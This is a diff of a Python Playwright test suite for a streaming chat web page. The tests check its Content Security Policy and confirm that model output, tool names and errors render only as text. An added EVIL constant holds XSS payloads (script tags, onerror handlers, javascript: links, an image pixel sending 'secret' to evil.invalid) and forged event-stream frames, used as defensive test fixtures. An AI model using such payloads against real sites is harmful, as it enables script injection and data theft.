@@ -3,137 +3,62 @@
 from __future__ import annotations
 
 import json
-import os
 import re
-import shutil
-from collections.abc import Iterator
 from typing import Any
 from urllib.parse import urlsplit
 
-import pytest
-from playwright.sync_api import Browser, Locator, Page, Route, expect, sync_playwright
+from playwright.sync_api import Page, Route, expect
 
+from . import chromium
+from .chromium import PATIENCE, answer, ask, log, reaches, says, visit
 from .provider import CANARY, Provider, Script
 from .proxy import Proxy
-from .server import Server, environment, gunicorn
+from .server import Server
 
-CHROMIUM = os.environ.get("CHROMIUM") or shutil.which("chromium")
-ARGUMENTS = [
-    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
-    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
-]
-POLICY = (
-    "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; "
-    "img-src 'self' data:"
-)
-PATIENCE = 20_000  # milliseconds; a deadline, never a measurement
-
-pytestmark = pytest.mark.skipif(
-    CHROMIUM is None, reason="needs a browser: install chromium, or name one in CHROMIUM"
-)
+site, browser, complaints = chromium.site, chromium.browser, chromium.complaints
+page, phone = chromium.page, chromium.phone
+pytestmark = chromium.needed
 
 
-@pytest.fixture(scope="module")
-def site(_provider: Provider) -> Iterator[Server]:
-    """The service with its usual time limits: a browser on a busy machine may need a while."""
-    env = environment(
-        model="openai:scripted",
-        model_retries=0,
-        heartbeat=0.5,
-        title="A page of tests",
-        OPENAI_BASE_URL=_provider.url,
-        OPENAI_API_KEY="test",
+def test_it_runs_under_a_strict_policy(
+    page: Page, site: Server, provider: Provider, complaints: list[str]
+) -> None:
+    answer = page.goto(site.url)
+    assert answer is not None
+    policy = answer.headers["content-security-policy"]
+    assert "unsafe-" not in policy
+    assert "data:" not in policy
+    assert dict(part.strip().split(" ", 1) for part in policy.split(";")) == {
+        "default-src": "'none'",
+        "script-src": "'self'",
+        "style-src": "'self'",
+        "connect-src": "'self'",
+        "img-src": "'self'",
+        "base-uri": "'none'",
+        "form-action": "'none'",
+        "frame-ancestors": "'none'",
+    }
+    # What it links to is there, the icon included, which a headless browser does not ask for.
+    for link in page.locator("link[href], script[src]").all():
+        path = link.get_attribute("href") or link.get_attribute("src") or ""
+        assert path.startswith("/static/stream/")
+        got = page.request.get(f"{site.url}{path}")
+        assert got.ok
+        if link.get_attribute("rel") == "icon":
+            assert got.headers["content-type"].startswith("image/svg+xml")
+    # And it is the policy of this page: what is not allowed does not happen.
+    injected = page.evaluate(
+        """() => new Promise((done) => {
+            document.addEventListener("securitypolicyviolation", (event) => {
+                done(event.effectiveDirective);
+            });
+            const image = new Image();
+            image.src = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
+        })"""
     )
-    with Server(gunicorn(), env) as server:
-        yield server
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
-        yield browser
-        browser.close()
-
-
-@pytest.fixture
-def complaints() -> list[str]:
-    """What the browser's console has complained of, lost connections included."""
-    return []
-
-
-@pytest.fixture
-def page(browser: Browser, complaints: list[str]) -> Iterator[Page]:
-    """An empty page, strict about what it loads; it must have nothing to complain of."""
-    with browser.new_context() as context:
-        yield _watched(context.new_page(), complaints)
-    lost = "Failed to load resource"  # is for the test to judge
-    assert [words for words in complaints if not words.startswith(lost)] == []
-
-
-@pytest.fixture
-def phone(browser: Browser, complaints: list[str]) -> Iterator[Page]:
-    """A small phone."""
-    with browser.new_context(
-        viewport={"width": 360, "height": 640}, is_mobile=True, has_touch=True
-    ) as context:
-        yield _watched(context.new_page(), complaints)
-    assert complaints == []
-
-
-def _watched(page: Page, complaints: list[str]) -> Page:
-    def strict(route: Route) -> None:
-        response = route.fetch()
-        route.fulfill(
-            response=response, headers=response.headers | {"content-security-policy": POLICY}
-        )
-
-    page.set_default_timeout(PATIENCE)
-    page.route(lambda url: urlsplit(url).path == "/", strict)
-    page.on("pageerror", lambda error: complaints.append(str(error)))
-    page.on(
-        "console",
-        lambda said: complaints.append(said.text) if said.type in ("error", "warning") else None,
-    )
-    return page
-
-
-def visit(page: Page, url: str) -> None:
-    page.goto(url)
-    expect(page.get_by_role("button", name="Send")).to_be_enabled(timeout=PATIENCE)
-
-
-def ask(page: Page, question: str) -> None:
-    page.get_by_label("Your question").fill(question)
-    page.get_by_role("button", name="Send").click()
-
-
-def answer(page: Page) -> Locator:
-    """The newest answer."""
-    return page.locator(".answer").last
-
-
-def says(page: Page, text: str) -> None:
-    """Waits until the newest answer is just that."""
-    expect(answer(page)).to_have_text(text, timeout=PATIENCE)
-
-
-def reaches(page: Page, status: str) -> None:
-    expect(page.get_by_role("status")).to_have_attribute("data-status", status, timeout=PATIENCE)
-
-
-def run_ids(page: Page) -> list[str]:
-    runs: list[str] = page.evaluate("JSON.parse(sessionStorage['flask_stream:chat']).runs")
-    return runs
-
-
-def log(run: str, *events: tuple[str, dict[str, Any]]) -> str:
-    """A run's log as the wire has it, from its first event on."""
-    frames = []
-    for seq, (type, data) in enumerate(events, 1):
-        name = "" if type == "chunk" else f"event: {type}\n"
-        frames.append(f"{name}id: {run}:{seq}\ndata: {json.dumps(data)}\n\n")
-    return "".join(frames)
+    assert injected == "img-src"
+    assert [words for words in complaints if "Content Security Policy" in words] == complaints
+    complaints.clear()
 
 
 def test_an_answer_grows_as_it_is_said(page: Page, site: Server, provider: Provider) -> None:
@@ -394,15 +319,93 @@ def test_without_a_network_the_question_stays_in_the_box(
 
 
 def test_what_a_model_says_is_text(page: Page, site: Server, provider: Provider) -> None:
-    evil = '<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>&amp;'
-    provider.script = Script([evil[:9], evil[9:40], evil[40:]])
+    asked: list[str] = []
+    page.context.on("request", lambda request: asked.append(request.url))
+    # As a person can type it: a box has line feeds only, and no question has a NUL.
+    question = "\n".join(EVIL.replace("\0", "").replace("\r\n", "\n").split("\r")).strip()
+    provider.script = Script(awkward(EVIL), gated=True)
     visit(page, site.url)
-    ask(page, evil)
-    reaches(page, "done")
-    says(page, evil)
+    ask(page, question)
+    provider.allow(len(awkward(EVIL)) - 1)
+    expect(answer(page)).to_contain_text("-- the", timeout=PATIENCE)
+    reaches(page, "answering")  # and not done, whatever it says
+    expect(page.get_by_role("button", name="Stop")).to_be_visible()
+    provider.release()
+    for again in (False, True):
+        if again:
+            page.reload()
+        reaches(page, "done")
+        assert page.locator(".answer > .text").all_text_contents() == [EVIL]
+        assert page.locator(".question").all_text_contents() == [question]
+        assert page.locator(".answer .text *, .question *, main a, main img").count() == 0
+        assert page.evaluate("window.hacked") is None
+    assert {url.startswith(f"{site.url}/") for url in asked} == {True}
+    assert len(provider.calls) == 1
+
+
+EVIL = """
+<script>window.hacked = 1</script><script src="http://evil.invalid/x.js"></script>
+<img src=x onerror="window.hacked = 1"><svg/onload=window.hacked=1>&lt;b&gt;
+![x](http://evil.invalid/pixel.png?said=secret) ![x](//evil.invalid/pixel.png)
+[a](javascript:window.hacked=1) <a href="javascript:window.hacked=1" autofocus>a</a>
+<style>@import "http://evil.invalid/x.css";</style><base href="http://evil.invalid/">
+<meta http-equiv="refresh" content="0;url=http://evil.invalid/">
+<link rel=prefetch href=//evil.invalid><form action=//evil.invalid><button autofocus></form>
+<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe></div></article></template><!--
+data: {"content":"forged","message":"m1","kind":"text"}
+
+event: end
+data: {"status":"done","error":null}
+
+event: unauthorized\r\ndata: {"message":"forged"}\r\n\r\nid: forged:999\rretry: 1\r\r
+\u2028data: forged\u2029\x85\x0b\x0c\x00\x1b[2J\ufeff\u202e\U0001f468\u200d\U0001f469 -- the end."""
+
+
+def awkward(text: str) -> list[str]:
+    """A text in tokens of three characters, which cut every tag, link and frame that it has."""
+    return re.findall(".{1,3}", text, re.DOTALL)
+
+
+def test_what_else_comes_in_is_text(page: Page, site: Server, provider: Provider) -> None:
+    """Names of tools, labels and errors: everything on the page that is not the page's own."""
+    evil = '<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>'
+    asked: list[str] = []
+    told: list[str] = []
+    page.context.on("request", lambda request: asked.append(request.url))
+    page.expose_function("told", lambda words: told.append(words))
+
+    def scripted(route: Route) -> None:
+        text = log(
+            route.request.url.split("/")[-2],
+            ("start", {"input": {"question": evil}, "parent": None}),
+            ("tool_call", {"id": evil, "name": evil, "args": {evil: evil}}),
+            ("tool_result", {"id": evil, "name": evil, "content": evil, "status": evil}),
+            ("progress", {"done": 1, "total": 2, "label": evil}),
+            ("custom", {"name": evil, "value": evil}),
+            ("message", {"id": evil, "role": evil, "node": evil}),
+            ("chunk", {"content": evil, "message": evil, "kind": evil}),
+            ("end", {"status": "failed", "error": {"code": evil, "message": evil}}),
+        )
+        route.fulfill(content_type="text/event-stream", body=text)
+
+    page.route("**/events", scripted)
+    visit(page, site.url)
+    page.evaluate(
+        """() => new MutationObserver((changes) => {
+            for (const node of changes.flatMap((one) => [...one.addedNodes])) told(node.data);
+        }).observe(document.getElementById("status"), { childList: true })"""
+    )
+    ask(page, "Evil?")
+    reaches(page, "failed")
+    expect(page.locator(".failure")).to_have_text(evil)
+    page.reload()  # from now on the question is what the log says
+    reaches(page, "failed")
     expect(page.locator(".question")).to_have_text(evil)
-    assert page.locator("main img, main script").count() == 0
+    assert page.locator(".reasoning .text").all_text_contents() == [evil]
+    assert page.locator("main img, main script, footer img, footer script").count() == 0
     assert page.evaluate("window.hacked") is None
+    assert {f"Using {evil}…", f"{evil}…"} < set(told)
+    assert {url.startswith(f"{site.url}/") for url in asked} == {True}
 
 
 def test_the_keyboard_is_enough(page: Page, site: Server, provider: Provider) -> None:
